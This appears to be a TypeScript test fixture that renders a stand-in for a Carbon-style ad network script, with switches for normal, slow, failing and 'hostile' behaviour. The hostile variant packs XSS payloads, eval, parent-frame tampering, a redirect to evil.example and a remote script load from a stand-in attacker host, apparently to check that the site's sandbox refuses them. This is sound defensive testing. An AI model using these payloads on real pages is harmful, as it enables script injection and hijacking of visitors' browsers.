import type { Answer } from './switches';

/** What the ad network's script does once it runs, by switch. */
const BODIES: Readonly<Record<Answer<'adScript'>, string>> = {
  ok: 'show()',
  slow: 'show()',
  late: 'setTimeout(show, 5000)',
  fail: '',
  backers: `show('https://ads.example/backers/')`,
  crash: `throw new Error('The stand-in for the network has crashed.')`,
  hostile: `
    const attempt = (what) => { try { what(); } catch (error) { /* refused, as it should be */ } };
    attempt(() => { place.innerHTML = '<img src=x onerror="window.hacked=1"><script>window.hacked=1</' + 'script>'; });
    attempt(() => { place.insertAdjacentHTML('beforeend', '<a href="javascript:window.hacked=1">x</a>'); });
    attempt(() => { eval('window.hacked = 1'); });
    attempt(() => { parent.document.title = 'hacked'; parent.hacked = 1; });
    attempt(() => { top.location = 'https://evil.example/'; });
    attempt(() => { localStorage.setItem('hacked', '1'); });
    attempt(() => { parent.postMessage({ docsAd: { sight: 'all of it', crash: 7 } }, '*'); });
    attempt(() => { const s = document.createElement('script'); s.text = 'window.hacked=1'; document.head.append(s); });
    attempt(() => { const s = document.createElement('script'); s.src = 'https://evil.example/x.js'; document.head.append(s); });
    show('https://example.com/?from=ad', 'Huge '.repeat(5000));`,
};

/** Returns the script of the stand-in for the ad network, in the manner of Carbon. */
export function renderNetworkScript(answer: Answer<'adScript'>): string {
  return `(() => {
  const place = document.currentScript.parentNode;
  function show(href = 'https://example.com/?from=ad', text = 'An ad that the stand-in for the network shows.') {
    const box = document.createElement('div');
    box.id = 'carbonads';
    const link = document.createElement('a');
    link.href = href;
    link.rel = 'noopener sponsored';
    const image = document.createElement('img');
    Object.assign(image, { src: '/stand-ins/ads/image.svg', width: 130, height: 100, alt: '' });
    const words = document.createElement('span');
    words.textContent = text;
    link.append(image, words);
    box.append(link);
    place.append(box);
  }
  ${BODIES[answer]}
})();
`;
}
